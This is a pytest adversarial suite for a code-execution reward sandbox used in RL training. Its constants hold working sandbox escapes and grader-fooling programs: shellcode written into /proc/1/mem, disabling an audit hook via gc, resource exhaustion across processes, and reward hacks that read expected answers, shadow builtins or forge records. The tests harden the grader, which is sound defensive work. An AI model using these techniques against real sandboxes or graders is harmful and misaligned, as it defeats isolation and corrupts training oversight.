# ruff: noqa: E501 - one attack program per constant, so each reads as a whole
"""The adversarial suite, part two: a program for each weakness issue 30 names, none may escape or score.

Each program escaped or scored on the sandbox that graded inside the program's process (commit a45f338): the
sandbox's first process writable through ``/proc`` (``PID1_INJECTION``), no bound on the sandbox as a whole
(``MEMORY_ACROSS_PROCESSES``, ``CPU_ACROSS_PROCESSES``, ``DETACHED_PAST_THE_HOOK``), a value text parsed however
long (``HUGE_REPR``), a mixed row's expected values readable by the program (``MIXED_ROW_READS_EXPECTED``), and
test code fooled by what the program defines (``SHADOWED_SET``, ``PATCHED_MATH``, ``FORGED_RECORDS``,
``CALL_COUNTER``). Each test says what its program did there and asserts it no longer can.
"""

import os
import platform
import secrets
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from lightning_grpo.rewards.code_execution import CodeExecutionReward, score
from lightning_grpo.rewards.code_tests import parse_tests
from lightning_grpo.sandbox import isolation as sandbox_isolation

SECRET = "canary-" + secrets.token_hex(12)
FLOAT = secrets.randbelow(10**9) / 7.0  # an expected float no program can guess
MARKER = "lgrpo_weak_" + secrets.token_hex(6)  # in the command line of processes an attack leaves behind
PROBE = sandbox_isolation.probe("auto")
REQUIRED = bool(os.environ.get("LIGHTNING_GRPO_REQUIRE_SANDBOX"))  # CI: a missing capability fails, not skips
TIMEOUT = 3.0
SLACK = 2.0  # start-up, kill and reap on a loaded 2-core machine


def need(available: bool, what: str) -> None:
    if not available:
        if REQUIRED:
            pytest.fail(f"LIGHTNING_GRPO_REQUIRE_SANDBOX is set but {what} is unavailable: {PROBE}")
        pytest.skip(f"{what} is unavailable here")


@pytest.fixture(scope="module")
def reward():
    need(PROBE.kernel, "kernel isolation (bubblewrap)")
    return CodeExecutionReward(timeout_seconds=TIMEOUT, memory_mb=128, isolation="strict")


def leftover_processes():
    found = []
    for proc in Path("/proc").iterdir():
        try:
            if proc.name.isdigit() and MARKER.encode() in (proc / "cmdline").read_bytes():
                found.append(int(proc.name))
        except OSError:
            continue
    return found


def grade(reward, code, tests):
    """(score, result) of ``code`` on ``tests``, asserting it finished in time, leaked nothing and left nothing."""
    parsed = parse_tests(tests)
    start = time.monotonic()
    result = reward.sandbox.run(code.replace("MARKER", MARKER), [c.case for t in parsed for c in t])
    elapsed = time.monotonic() - start
    time.sleep(0.2)  # the pid namespace's teardown is asynchronous
    left = leftover_processes()
    for pid in left:  # ours (the marker is this run's): killed, so the next test starts clean
        os.kill(pid, signal.SIGKILL)
    assert left == [] and elapsed < TIMEOUT + SLACK, (left, elapsed, result)
    seen = b"".join(o for o in result.outputs if o) + result.log.encode() + (result.error or "").encode()
    assert SECRET.encode() not in seen
    return score(parsed, result), result


SECRET_TEST = [f"assert solve() == {SECRET!r}"]

# Before: /proc/1 was bwrap's init, same user, dumpable: the payload execve'd in pid 1 held 1 GiB (memory_mb was
# 256) with no rlimit, cleared its parent-death signal and outlived the wall-clock kill by 30 s.
PID1_INJECTION = r"""
import os, struct, sys, time
def inject():
    pc = int(open('/proc/1/syscall').read().split()[-1], 16)  # where pid 1 resumes after its blocking call
    payload = b"import time\nx = bytearray(1 << 30)\nfor i in range(0, len(x), 4096): x[i] = 1\nprint('pid 1 holds', len(x) >> 20, 'MB', flush=True)\ntime.sleep(30)\n#MARKER\0"
    data_at, blob, addrs = pc + 64, b'', []
    for s in (sys.executable.encode() + b'\0', b'-c\0', payload):
        addrs.append(data_at + len(blob))
        blob += s
    argv_at = data_at + len(blob)
    blob += struct.pack('<4Q', *addrs, 0)
    code = (b'\xbf\x01\x00\x00\x00\x31\xf6\xb8\x9d\x00\x00\x00\x0f\x05'  # prctl(PR_SET_PDEATHSIG, 0)
            + b'\x48\xbf' + struct.pack('<Q', addrs[0]) + b'\x48\xbe' + struct.pack('<Q', argv_at)
            + b'\x31\xd2\xb8\x3b\x00\x00\x00\x0f\x05')  # execve(python, argv, NULL)
    with open('/proc/1/mem', 'r+b', buffering=0) as mem:
        mem.seek(pc)
        mem.write(code.ljust(64, b'\x90') + blob)
    if os.fork() == 0:  # an orphan for pid 1 to reap: its wait returns into the payload
        if os.fork() == 0:
            os._exit(0)
        os._exit(0)
try:
    inject()
    print('injected', flush=True)
except OSError as err:
    print('refused:', type(err).__name__, flush=True)
time.sleep(60)
"""


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the payload is x86-64 machine code")
def test_the_first_process_cannot_be_written_to(reward):
    value, result = grade(reward, PID1_INJECTION, SECRET_TEST)
    assert value == 0.0 and "refused: PermissionError" in result.log and "pid 1 holds" not in result.log, result


# Before: six processes of 64 MB each (every one inside its 128 MB RLIMIT_AS) held 384 MB at once.
MEMORY_ACROSS_PROCESSES = """
import os, time
alive = []
for i in range(6):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        x = bytearray(64 * 2**20)
        for j in range(0, len(x), 4096):
            x[j] = 1
        os.write(w, b'k')
        time.sleep(30)
        os._exit(0)
    os.close(w)
    os.read(r, 1)
    alive = [p for p in alive + [pid] if os.waitpid(p, os.WNOHANG) == (0, 0)]
    print('held', 64 * len(alive), flush=True)  # by the children alive at once
time.sleep(30)
"""


def test_memory_is_bounded_for_the_whole_sandbox(reward):
    need("memory" in PROBE.cgroups, "a memory cgroup")
    value, result = grade(reward, MEMORY_ACROSS_PROCESSES, SECRET_TEST)
    held = max([int(line.split()[1]) for line in result.log.splitlines() if line.startswith("held")] or [0])
    assert value == 0.0 and held <= 2 * reward.sandbox.memory_mb, result  # was 384 MB with memory_mb 128


# Before: four processes spinning for 1 s of wall time used ~1 CPU-second under `cpus=0.5` (all this loaded
# 2-core machine had free; both cores when idle).
CPU_ACROSS_PROCESSES = """
import os, time
pipes = []
for i in range(4):
    r, w = os.pipe()
    if os.fork() == 0:
        end = time.monotonic() + 1.0
        while time.monotonic() < end:
            pass
        os.write(w, repr(time.process_time()).encode())
        os._exit(0)
    os.close(w)
    pipes.append(r)
print('cpu', sum(float(os.read(r, 64) or 0) for r in pipes), flush=True)
"""


def test_cpu_is_bounded_for_the_whole_sandbox(reward):
    need("cpu" in PROBE.cgroups, "a CPU cgroup")
    half = CodeExecutionReward(timeout_seconds=TIMEOUT, memory_mb=128, isolation="strict")
    half.sandbox.cpus = 0.5
    value, result = grade(half, CPU_ACROSS_PROCESSES, SECRET_TEST)
    used = float(result.log.split("cpu")[1].split()[0])
    assert value == 0.0 and used < 1.0 * 0.5 + 0.15, result  # 1 s of wall at most half a CPU


# Before (process mode): the audit hook's table is a global of a module the program can reach; emptied, fork
# and setsid work, and the sleeper outlived the process-group kill by 30 s.
DETACHED_PAST_THE_HOOK = """
import gc, os, sys, time
for f in gc.get_objects():
    if type(f).__name__ == 'function' and f.__name__ == 'hook' and 'BLOCKED_EVENTS' in f.__globals__:
        f.__globals__['BLOCKED_EVENTS'] = frozenset()
if os.fork() == 0:
    os.setsid()
    os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(30)', 'MARKER'])
time.sleep(0.5)
"""


def test_the_kill_reaches_a_detached_process_in_process_mode():
    need(os.geteuid() == 0 and "pids" in PROBE.cgroups, "a cgroup (root)")
    process_reward = CodeExecutionReward(timeout_seconds=TIMEOUT, memory_mb=128, isolation="process")
    value, result = grade(process_reward, DETACHED_PAST_THE_HOOK, SECRET_TEST)
    assert value == 0.0, result  # and grade() found no process left behind


# Before: two ~900 KB reprs cost the trainer ~5 s of CPU (and ~490 MB) in ast.literal_eval to score 0.
HUGE_REPR = "def solve():\n    return [0] * 300000"


def test_a_huge_value_is_refused_before_the_trainer_parses_it(reward):
    tests = SECRET_TEST * 2
    parsed = parse_tests(tests)
    result = reward.sandbox.run(HUGE_REPR, [c.case for t in parsed for c in t])
    start = time.process_time()
    assert score(parsed, result) == 0.0
    assert time.process_time() - start < 0.1 and all(o is None or len(o) <= 2**16 for o in result.outputs)


# Before: a HumanEval check that mixes a plain assert with another ran whole in the program's process, whose
# solve() read the expected value from its caller's constants: 1.0.
MIXED_ROW_READS_EXPECTED = """
import sys
def solve():
    frame = sys._getframe(1)
    while frame is not None:
        for const in frame.f_code.co_consts:
            if isinstance(const, str) and const.startswith('canary-'):
                return const
        frame = frame.f_back
    return None
"""
MIXED_CHECK = f"def check(candidate):\n    assert candidate() == {SECRET!r}\n    assert isinstance(candidate(), str)\ncheck(solve)"

# Before: the script ran in the program's namespace, where `set` was the program's: an always-equal object.
SHADOWED_SET = """
class E:
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
def set(*args):
    return E()
def solve():
    return []
"""
# Before: the test's `import math` got the program's patched module.
PATCHED_MATH = "import math\nmath.isclose = lambda *a, **k: True\ndef solve():\n    return 0.0"
# Before: the job (with its token) was in the program's memory and the record channel at fd 100+: a frame saying
# the script case ran, written before the real one, won.
FORGED_RECORDS = """
import gc, os
job = next((o for o in gc.get_objects() if isinstance(o, dict) and 'token' in o and 'cases' in o), None)
for fd in range(100, 110):
    try:
        os.write(fd, f"\\n{job['token']} 0 0 0\\n".encode())
    except (OSError, TypeError):
        pass
def solve():
    return None
"""
# Before: `len` in the test code was the program's counter, answering 1, 2, 3 to three contradictory tests.
CALL_COUNTER = """
calls = [0]
def len(x):
    calls[0] += 1
    return calls[0]
def solve():
    return []
"""
FOOLERS = {
    "mixed_row_reads_expected": (MIXED_ROW_READS_EXPECTED, [MIXED_CHECK]),
    "shadowed_set": (SHADOWED_SET, [f"x = solve()\nassert set(x) == {{{SECRET!r}}}"]),
    "patched_math": (PATCHED_MATH, [f"import math\nassert math.isclose(solve(), {FLOAT!r})"]),
    "forged_records": (FORGED_RECORDS, [f"x = solve()\nassert x == {SECRET!r}"]),
    "call_counter": (CALL_COUNTER, [f"x = solve()\nassert len(x) == {k}" for k in (1, 2, 3)]),
}


@pytest.mark.parametrize("name", sorted(FOOLERS))
def test_test_code_is_not_fooled_by_what_the_program_defines(reward, name):
    code, tests = FOOLERS[name]
    assert all(c.case.kind == "script" for t in parse_tests(tests) for c in t)  # the weaker kind, before
    value, result = grade(reward, code, tests)
    assert value == 0.0, result


@pytest.mark.parametrize("name", sorted(set(FOOLERS) - {"forged_records"}))  # that one needs the old channel
def test_the_foolers_are_real_test_code_in_their_own_namespace_is_fooled(name, tmp_path):
    """Run as the old sandbox ran them, test code exec'd in the program's namespace (in a child process: they
    patch builtins), each passes every one of its tests."""
    code, tests = FOOLERS[name]
    runner = "import sys\nnamespace = {'__name__': 'solution'}\nexec(sys.argv[1], namespace)\n"
    runner += "for test in sys.argv[2:]:\n    exec(test, namespace)"
    done = subprocess.run([sys.executable, "-c", runner, code, *tests], cwd=tmp_path, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
